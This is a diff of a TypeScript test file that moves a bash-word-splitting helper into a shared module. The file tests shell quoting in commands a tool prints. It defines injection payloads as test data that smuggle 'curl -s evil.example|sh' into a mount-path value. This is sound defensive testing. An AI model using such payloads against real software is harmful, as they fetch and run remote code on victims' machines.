@@ -19,6 +19,7 @@ import type {Report} from '../../src/core/types.js'
 import {healthy, withFault} from '../support/snapshot-builder.js'
 import {expectOneLineExit2, runCommand} from '../support/run-command.js'
 import {bounded} from './bounded.js'
+import {wordsBashSees} from '../support/bash-words.js'
 
 const dir = mkdtempSync(join(tmpdir(), 'efsd-abuse-q-'))
 
@@ -29,16 +30,6 @@ beforeAll(async () => {
 })
 const PAYLOAD = '/mnt/efs;curl${IFS}-s${IFS}evil.example|sh;#/x'
 const QUOTE_PAYLOAD = "/mnt/x';curl -s evil.example|sh;'"
-
-/**
- * The words bash sees when it runs `command` with every program name (`aws`, `efsdoctor`, `echo`, …) replaced by
- * a function that prints its arguments: what pasting the command would run, without running anything.
- */
-function wordsBashSees(command: string): string[][] {
-  const script = `for f in aws efsdoctor echo sudo tee mount umount docker; do eval "$f() { printf '%s\\\\0' \\"$f\\" \\"\\$@\\"; printf '\\\\1'; }"; done\n${command}\n`
-  const out = execFileSync('bash', ['--norc', '--noprofile', '-c', script], {encoding: 'utf8', timeout: 5000})
-  return out.split('\u0001').filter(Boolean).map(call => call.split('\0').slice(0, -1))
-}
 
 describe('one quoting function for every printed command', () => {
   it('property: bash reads back exactly the words given, whatever they hold', () => {
